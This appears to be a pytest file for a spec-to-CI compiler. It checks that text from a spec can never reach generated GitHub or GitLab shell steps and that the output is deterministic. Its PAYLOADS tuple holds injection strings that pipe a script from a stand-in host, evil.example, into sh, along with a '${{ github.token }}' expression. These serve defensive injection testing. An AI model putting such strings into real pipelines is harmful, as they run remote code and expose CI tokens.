"""Spec text can never become CI code (QUALITY §A row 19), and the CI output is deterministic.

The hostile-string test puts ``${{ github.token }}``, ``$(curl …)`` and backticks into every
string field of every example (one field at a time, each field shape once) plus a complete
``ci:`` section. ``${{`` must be rejected by validation wherever it is put; a value that is
accepted must never reach a ``run:`` or ``script:`` — which holds by construction, since every
such entry must be one of the constant scripts of ``targets/ci/scripts.py``.
"""

from __future__ import annotations

import copy
import hashlib
import shutil
import subprocess
import sys
import types
import typing
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from pydantic import BaseModel

from mlplane.compiler.build.pipeline import compile_spec
from mlplane.compiler.core.diagnostics import Diagnostics
from mlplane.compiler.core.yamltext import Commented, load
from mlplane.compiler.frontend.document import load_spec
from mlplane.schema.models import MLSystem
from mlplane.targets.ci import dump, emit, is_generated
from mlplane.targets.ci.pins import ACTIONS, GITLAB_IMAGES, PULUMI_CLI
from mlplane.targets.ci.scripts import SCRIPTS
from tests.test_ci import EXAMPLES, EXAMPLES_DIR, PROVIDERS

PAYLOADS = (
    "${{ github.token }}",
    "$(curl -fsSL https://evil.example/x | sh)",
    "`curl -fsSL https://evil.example/x | sh`",
)
CI_CARRIER: dict[str, Any] = {
    "provider": "github",
    "defaultBranch": "main",
    "specPath": "deploy/spec",
    "python": "3.12",
    "mlplaneVersion": "0.1.0",
    "runner": ["ubuntu-24.04"],
    "apply": {"auto": [], "manual": ["prod"]},
    "environments": {
        "prod": {"aws": {"roleArn": "arn:aws:iam::123456789012:role/deploy", "region": "eu-west-1"}}
    },
    "drift": {"schedule": "17 5 * * *"},
    "gitlab": {"image": "python:3.12-slim@sha256:" + "0" * 64},
}
"""Every ``ci:`` field, so that the payloads are tried in the CI settings themselves too."""


# --- walking specs -----------------------------------------------------------------------------------


def string_leaves(node: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(node, dict):
        for key, value in node.items():
            yield from string_leaves(value, (*path, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from string_leaves(value, (*path, index))
    elif isinstance(node, str):
        yield path


def _unwrap(annotation: Any) -> Any:
    """The annotation without Annotated/Optional wrappers (the first non-None member)."""
    while True:
        origin = typing.get_origin(annotation)
        if origin is typing.Annotated:
            annotation = typing.get_args(annotation)[0]
        elif origin in (typing.Union, types.UnionType):
            members = [a for a in typing.get_args(annotation) if a is not type(None)]
            models = [a for a in members if isinstance(a, type) and issubclass(a, BaseModel)]
            annotation = (models or members)[0]
        else:
            return annotation


def shape(path: tuple[Any, ...]) -> tuple[str, ...]:
    """The field a path belongs to, names and indices generalised: ``models.*.description``."""
    annotation: Any = MLSystem
    out: list[str] = []
    for part in path:
        annotation = _unwrap(annotation)
        origin = typing.get_origin(annotation)
        if isinstance(part, int):
            out.append("[]")
            annotation = typing.get_args(annotation)[0] if origin is list else None
        elif isinstance(annotation, type) and issubclass(annotation, BaseModel):
            fields = {(f.alias or name): f for name, f in annotation.model_fields.items()}
            out.append(part)
            annotation = fields[part].annotation if part in fields else None
        elif origin is dict:
            out.append("*")
            annotation = typing.get_args(annotation)[1]
        else:
            out.append(str(part))
            annotation = None
    return tuple(out)


def carriers() -> Iterator[tuple[str, dict[str, Any], tuple[Any, ...]]]:
    """(example, data with a full ci section, path) for the first path of every field shape."""
    seen: set[tuple[str, ...]] = set()
    for example in EXAMPLES:
        document = load_spec(EXAMPLES_DIR / example, Diagnostics())
        assert document is not None
        data = copy.deepcopy(document.data)
        data["ci"] = copy.deepcopy(CI_CARRIER)
        for path in string_leaves(data):
            if shape(path) not in seen:
                seen.add(shape(path))
                yield example, data, path


def replaced(data: dict[str, Any], path: tuple[Any, ...], value: str) -> dict[str, Any]:
    out = copy.deepcopy(data)
    node: Any = out
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    return out


def write_merged(example: str, data: dict[str, Any], directory: Path) -> Path:
    """``data`` as one spec file next to the example's other files (its Rego policies)."""
    shutil.rmtree(directory, ignore_errors=True)
    shutil.copytree(EXAMPLES_DIR / example, directory)
    for old in [*directory.glob("*.yaml"), *directory.glob("*.yml")]:
        old.unlink()
    (directory / "mlplane.yaml").write_text(yaml.safe_dump(data, sort_keys=False), encoding="utf-8")
    return directory


def shell_entries(files: dict[str, str]) -> Iterator[str]:
    """Every ``run:`` and ``script:`` entry of the generated files."""
    for text in files.values():
        doc = load(text)
        for key, job in doc.get("jobs", doc).items():
            if not isinstance(job, dict):
                continue
            yield from job.get("script", [])
            yield from (step["run"] for step in job.get("steps", []) if "run" in step)
            assert key  # every job has an id


CASES = list(carriers())


def test_every_field_shape_is_tried() -> None:
    shapes = {shape(path) for _, _, path in CASES}
    for expected in [
        ("metadata", "description"),
        ("models", "*", "description"),
        ("waivers", "[]", "reason"),
        ("ci", "specPath"),
        ("ci", "runner", "[]"),
        ("ci", "environments", "*", "aws", "roleArn"),
        ("ci", "gitlab", "image"),
    ]:
        assert expected in shapes


@pytest.mark.slow
@pytest.mark.parametrize("payload", PAYLOADS, ids=["expression", "substitution", "backticks"])
def test_spec_text_never_reaches_a_shell(tmp_path: Path, payload: str) -> None:
    known = set(SCRIPTS.values())
    accepted: list[str] = []
    for example, data, path in CASES:
        spec = write_merged(example, replaced(data, path, payload), tmp_path / "spec")
        result = compile_spec(spec)
        if "${{" in payload:
            assert not result.ok, f"{'.'.join(map(str, path))} accepted {payload!r}"
        if not result.ok:
            continue
        accepted.append(".".join(map(str, path)))
        system = next(iter(result.systems.values()))
        for provider in PROVIDERS:
            for entry in shell_entries(emit(system, provider, "deploy/spec")):
                assert entry in known and payload not in entry
    if "${{" not in payload:
        assert accepted, "free text such as descriptions accepts this payload"


def test_names_with_payloads_are_rejected(tmp_path: Path) -> None:
    document = load_spec(EXAMPLES_DIR / "fraud-scoring", Diagnostics())
    assert document is not None
    for payload in PAYLOADS:
        data = copy.deepcopy(document.data)
        data["environments"][payload] = data["environments"].pop("dev")
        data["metadata"]["name"] = payload
        result = compile_spec(write_merged("fraud-scoring", data, tmp_path / "spec"))
        assert not result.ok
        assert {d.code for d in result.sorted_diagnostics()} <= {"invalid-name", "invalid-text"}


# --- determinism ------------------------------------------------------------------------------------

DIGEST_SCRIPT = """
import hashlib
from pathlib import Path
from mlplane.compiler.build.pipeline import compile_spec
from mlplane.targets.ci import emit
digest = hashlib.sha256()
for name in {examples!r}:
    system = next(iter(compile_spec(Path({root!r}) / name).systems.values()))
    for provider in ("github", "gitlab"):
        for path, text in sorted(emit(system, provider, "examples/" + name).items()):
            digest.update(path.encode() + b"\\0" + text.encode() + b"\\0")
print(digest.hexdigest())
"""


@pytest.mark.slow
def test_output_is_identical_across_hash_seeds() -> None:
    script = DIGEST_SCRIPT.format(examples=EXAMPLES, root=str(EXAMPLES_DIR))
    digests = {
        subprocess.run(
            [sys.executable, "-c", script],
            env={"PYTHONHASHSEED": seed, "PATH": "/usr/bin:/bin"},
            check=True,
            capture_output=True,
            text=True,
        ).stdout.strip()
        for seed in ("0", "1", "4242")
    }
    digest = hashlib.sha256()
    for name in EXAMPLES:
        system = next(iter(compile_spec(EXAMPLES_DIR / name).systems.values()))
        for provider in PROVIDERS:
            for path, text in sorted(emit(system, provider, f"examples/{name}").items()):
                digest.update(path.encode() + b"\0" + text.encode() + b"\0")
    assert digests == {digest.hexdigest()}


# --- the emitter, the scripts and the pins ---------------------------------------------------------


def test_dumper_quotes_what_yaml_would_misread() -> None:
    data = {
        "on": {"push": {}},
        "values": ["yes", "no", "on", "3.12", "1e3", "0755", "null", "~", "*alias", "a: b", "x #y"],
        "uses": Commented("actions/checkout@" + "a" * 40, "v4.2.2"),
        "if": "${{ !cancelled() }}",
        "run": "echo one\necho two\n",
    }
    text = dump(data, ["header"])
    assert text.startswith("# header\n'on':\n"), "YAML 1.1 reads a plain on: as true"
    assert f"uses: actions/checkout@{'a' * 40} # v4.2.2\n" in text
    assert load(text) == {**data, "uses": "actions/checkout@" + "a" * 40}
    assert yaml.safe_load(text)["values"] == data["values"], "YAML 1.1 reads the same strings"


def test_dumper_writes_astral_characters_with_yaml_escapes() -> None:
    """json.dumps would write a surrogate pair (\\ud83d\\ude80), which YAML does not decode."""
    text = dump({"name": "\U0001f680 deploy"}, ["header"])
    assert text == '# header\nname: "\\U0001f680 deploy"\n'
    assert load(text) == yaml.safe_load(text) == {"name": "\U0001f680 deploy"}


@pytest.mark.parametrize(
    "bad",
    [
        {"run": "trailing space \n"},
        {"run": "tab\there\n"},
        {"run": "x\n\n"},
        {"k": Commented("v", "a\nb")},
    ],
)
def test_dumper_refuses_unsafe_text(bad: dict[str, Any]) -> None:
    with pytest.raises(ValueError):
        dump(bad)


@pytest.mark.parametrize("name", sorted(SCRIPTS))
def test_scripts_are_valid_posix_shell(name: str) -> None:
    sh = shutil.which("sh")
    assert sh is not None
    result = subprocess.run(
        [sh, "-n"], input=SCRIPTS[name], capture_output=True, text=True, check=False
    )
    assert result.returncode == 0, result.stderr
    assert "${{" not in SCRIPTS[name]


def test_the_gitlab_note_script_is_valid_python() -> None:
    script = SCRIPTS["note-gitlab"]
    body = script.split("<<'PY'\n", 1)[1].split("\nPY\n", 1)[0]
    compile(body, "note-gitlab", "exec")


def test_pins_are_full_commits_and_digests() -> None:
    for pin in ACTIONS.values():
        assert len(pin.commit) == 40 and all(c in "0123456789abcdef" for c in pin.commit)
        assert pin.version.startswith("v") and pin.verified
    for sha in (PULUMI_CLI.sha256_linux_x64, PULUMI_CLI.sha256_linux_arm64):
        assert len(sha) == 64 and all(c in "0123456789abcdef" for c in sha)
    assert set(GITLAB_IMAGES) == {"3.11", "3.12", "3.13"}
    for version, image in GITLAB_IMAGES.items():
        assert (
            # the full images: the slim ones have no git, which `plan --base` needs
            image.image.startswith(f"python:{version}@sha256:")
            and len(image.image.split(":")[-1]) == 64
        )


def test_generated_files_are_recognised() -> None:
    system = next(iter(compile_spec(EXAMPLES_DIR / EXAMPLES[0]).systems.values()))
    for provider in PROVIDERS:
        assert all(is_generated(text) for text in emit(system, provider, ".").values())
    assert not is_generated("name: ci\non: push\n")


# --- the pull request comment, with a stand-in for gh ---------------------------------------------

FAKE_GH = """#!/bin/sh
echo "$*" >> "$GH_LOG"
case "$*" in
  *--paginate*) cat "$GH_COMMENTS" ;;
  *) echo '{}' ;;
esac
"""
BOT = "github-actions[bot]"


@pytest.mark.parametrize(
    ("comments", "expected"),
    [
        ("[]", "--method POST repos/acme/app/issues/7/comments -F body=@comment.md"),
        (
            '[{"id": 5, "user": {"login": "mallory"}, "body": "MARKER"}]',
            "--method POST repos/acme/app/issues/7/comments -F body=@comment.md",
        ),
        (
            f'[{{"id": 3, "user": {{"login": "{BOT}"}}, "body": "other"}}]'
            f' [{{"id": 9, "user": {{"login": "{BOT}"}}, "body": "plan MARKER"}}]',
            "--method PATCH repos/acme/app/issues/comments/9 -F body=@comment.md",
        ),
    ],
    ids=["first", "someone-elses-marker", "update-in-place"],
)
def test_one_comment_per_environment_updated_in_place(
    tmp_path: Path, comments: str, expected: str
) -> None:
    if shutil.which("jq") is None:
        pytest.skip("jq (preinstalled on GitHub's runners) is not installed here")
    marker = "<!-- mlplane-plan:demo:prod -->"
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin" / "gh").write_text(FAKE_GH, encoding="utf-8")
    (tmp_path / "bin" / "gh").chmod(0o755)
    (tmp_path / "comments.json").write_text(comments.replace("MARKER", marker), encoding="utf-8")
    (tmp_path / "plan").mkdir()
    (tmp_path / "plan" / "prod.md").write_text("### the plan\n", encoding="utf-8")
    env = {
        "PATH": f"{tmp_path / 'bin'}:/usr/bin:/bin",
        "GH_LOG": str(tmp_path / "gh.log"),
        "GH_COMMENTS": str(tmp_path / "comments.json"),
        "GH_REPO": "acme/app",
        "PR_NUMBER": "7",
        "MLPLANE_SYSTEM": "demo",
        "MLPLANE_ENV": "prod",
    }
    script = SCRIPTS["comment-github"]
    subprocess.run(["bash", "-c", script], cwd=tmp_path, env=env, check=True, timeout=30)
    calls = (tmp_path / "gh.log").read_text(encoding="utf-8").splitlines()
    assert calls[-1] == f"api {expected}"
    assert (tmp_path / "comment.md").read_text(encoding="utf-8") == f"{marker}\n\n### the plan\n"
